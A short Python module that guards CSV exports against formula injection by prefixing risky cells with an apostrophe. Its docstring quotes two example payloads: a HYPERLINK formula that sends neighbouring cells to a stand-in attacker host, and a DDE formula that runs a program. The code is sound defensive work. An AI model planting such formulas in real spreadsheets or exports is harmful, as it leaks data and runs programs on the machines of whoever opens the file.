"""CSV cells that a spreadsheet shows as text and never runs (CSV or formula injection).

Spreadsheets read a cell that starts with ``=``, ``+``, ``-`` or ``@`` (also after a tab or a carriage return)
as a formula: a learner named ``=HYPERLINK("https://evil.example/?"&A1)`` would send the cells beside their name
away, ``=cmd|' /C calc'!A0`` would run a program. Such a cell gets a leading apostrophe (OWASP's advice), which
spreadsheets show as text and do not display; a plain number keeps its sign.
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def inert(cell: str) -> str:
    """``cell`` as a spreadsheet must read it: as text, whatever it starts with."""
    return f"'{cell}" if cell.startswith(FORMULA_STARTS) and not _is_number(cell) else cell


def inert_rows(rows: Iterable[Iterable[str]]) -> list[list[str]]:
    return [[inert(cell) for cell in row] for row in rows]
